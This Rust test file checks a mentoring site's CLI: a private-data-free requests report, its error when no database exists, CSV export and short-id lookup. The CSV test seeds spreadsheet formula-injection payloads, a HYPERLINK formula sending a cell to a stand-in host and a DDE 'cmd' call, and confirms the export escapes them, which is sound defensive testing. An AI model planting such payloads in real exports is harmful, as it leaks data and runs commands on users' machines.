//! `mentorsite requests report`: the programme manager's page, made from a real SQLite file.

mod common;

use common::Site;
use mentorsite::requests::Status;
use mentorsite::requests::store::{Store, StoredRequest, Transition};

fn at(s: &str) -> i64 {
    s.parse::<jiff::Timestamp>().unwrap().as_second()
}

fn request(id: &str, mentor: &str, created: &str) -> StoredRequest {
    StoredRequest {
        id: id.into(),
        created_at: at(created),
        mentor: mentor.into(),
        name: format!("Mentee Person {id}"),
        email: format!("mentee-{id}@private.example.net"),
        mode: "video".into(),
        message: format!("A private message number {id}"),
        status: Status::Pending,
        respond_by: "2026-01-01".into(),
    }
}

/// Seven requests to the doctors fixture's mentors, in every state.
fn seed(site: &Site) {
    std::fs::create_dir_all(site.path("data")).unwrap();
    let store = Store::open(&site.path("data/requests.sqlite")).unwrap();
    let rows = [
        ("r1", "dr-ada-bundle", "2026-09-07T10:00:00Z"),
        ("r2", "dr-ada-bundle", "2026-09-11T10:00:00Z"),
        ("r3", "bob-crlf", "2026-10-01T10:00:00Z"),
        ("r4", "bob-crlf", "2026-10-02T10:00:00Z"),
        ("r5", "a-mentor-since-removed", "2026-10-05T10:00:00Z"),
        ("r6", "dr-ada-bundle", "2026-11-02T10:00:00Z"),
        ("r7", "bob-crlf", "2026-11-20T10:00:00Z"),
    ];
    for (id, mentor, created) in rows {
        store
            .insert(&request(id, mentor, created), &[], 0, |_| None::<()>)
            .unwrap()
            .unwrap();
    }
    let answer = |id, to, when| {
        assert_eq!(
            store
                .answer(id, to, None, &format!("token-{id}"), &[], at(when))
                .unwrap(),
            Transition::Done
        );
    };
    answer("r1", Status::Accepted, "2026-09-09T10:00:00Z");
    answer("r2", Status::Declined, "2026-09-14T08:00:00Z");
    answer("r6", Status::Accepted, "2026-11-02T15:00:00Z");
    for id in ["r3", "r4", "r5"] {
        assert!(store.lapse(id, &[], at("2026-11-01T00:00:00Z")).unwrap());
    }
    assert_eq!(
        store
            .withdraw("r6", &[], at("2026-11-05T00:00:00Z"))
            .unwrap(),
        Transition::Done
    );
}

#[test]
fn the_report_charts_the_requests_and_names_no_mentee() {
    let site = Site::fixture("doctors");
    seed(&site);
    let out = site.path("report.html");
    let run = site.run(&["requests", "report", "--output", out.to_str().unwrap()]);
    run.assert_code(0);
    assert!(
        run.stdout.contains("(7 requests)") && run.stdout.contains("do not publish it"),
        "{}",
        run.stdout
    );
    let html = std::fs::read_to_string(&out).unwrap();
    assert_eq!(html.matches("<svg role=\"img\"").count(), 4);
    assert!(
        html.contains("<th scope=\"row\">Bob Crlf</th><td>2</td>"),
        "by name"
    );
    assert!(
        html.contains("<th scope=\"row\">a-mentor-since-removed</th><td>1</td>"),
        "a removed mentor by file name"
    );
    assert!(html.contains("<strong>14%</strong> accepted"), "1 of 7");
    assert!(html.contains("<strong>43%</strong> lapsed"), "3 of 7");
    for private in [
        "Mentee Person",
        "mentee-r",
        "private message",
        "private.example",
    ] {
        assert!(!html.contains(private), "{private} in the report");
    }
}

#[test]
fn report_without_a_database_says_no_request_yet() {
    let site = Site::fixture("doctors");
    let run = site.run(&["requests", "report"]);
    run.assert_code(2);
    assert!(
        run.stderr.contains("no request database")
            && run.stderr.contains("no request has been received"),
        "{}",
        run.stderr
    );
}

#[test]
fn the_csv_export_never_hands_a_spreadsheet_a_formula() {
    let site = Site::fixture("doctors");
    std::fs::create_dir_all(site.path("data")).unwrap();
    let store = Store::open(&site.path("data/requests.sqlite")).unwrap();
    let mut r = request("r1", "dr-ada-bundle", "2026-11-02T10:00:00Z");
    r.name = "=HYPERLINK(\"https://x.example/?\"&A1,\"Open\")".into();
    r.message = "@SUM(1+1)*cmd|' /C calc'!A0\nsecond line".into();
    store.insert(&r, &[], 0, |_| None::<()>).unwrap().unwrap();
    drop(store);
    let run = site.run(&["requests", "export", "--csv"]);
    run.assert_code(0);
    let mut rows = csv::Reader::from_reader(run.stdout.as_bytes());
    let row = rows.records().next().unwrap().unwrap();
    assert_eq!(&row[5], "'=HYPERLINK(\"https://x.example/?\"&A1,\"Open\")");
    assert_eq!(&row[8], "'@SUM(1+1)*cmd|' /C calc'!A0\nsecond line");
    assert_eq!(
        &row[6], "mentee-r1@private.example.net",
        "plain cells are as typed"
    );
}

#[test]
fn requests_show_speaks_the_admin_s_language_and_takes_a_short_id() {
    let site = Site::fixture("doctors");
    std::fs::create_dir_all(site.path("data")).unwrap();
    let store = Store::open(&site.path("data/requests.sqlite")).unwrap();
    for id in ["4f2a0c9d1e", "4f2b77aa00", "9c0ffee000"] {
        let mut r = request(id, "dr-ada-bundle", "2026-11-02T10:00:00Z");
        r.respond_by = "2026-11-09".into();
        store.insert(&r, &[], 0, |_| None::<()>).unwrap().unwrap();
    }
    store
        .answer(
            "4f2a0c9d1e",
            Status::Declined,
            Some("I am away until March; Dr Bundle may suit you."),
            "token",
            &[],
            at("2026-11-04T15:30:00Z"),
        )
        .unwrap();
    drop(store);
    let shown = site.run(&["requests", "show", "4f2a"]);
    shown.assert_code(0);
    insta::assert_snapshot!("requests_show_declined", shown.stdout);
    assert!(
        !shown.stdout.contains("declined_mentee"),
        "no internal names"
    );
    let pending = site.run(&["requests", "show", "9C0F"]);
    pending.assert_code(0);
    assert!(
        pending
            .stdout
            .contains("Answer by   Monday 9 November 2026"),
        "{}",
        pending.stdout
    );
    let ambiguous = site.run(&["requests", "show", "4f2"]);
    assert_ne!(ambiguous.code, 0);
    assert!(
        ambiguous.stderr.contains(
            "2 requests have ids beginning \"4f2\": 4f2a0c9d1e, 4f2b77aa00. Type more of the id."
        ),
        "{}",
        ambiguous.stderr
    );
    let none = site.run(&["requests", "show", "zz%"]);
    assert_ne!(none.code, 0);
    assert!(
        none.stderr
            .contains("no request with an id beginning \"zz%\""),
        "{}",
        none.stderr
    );
}
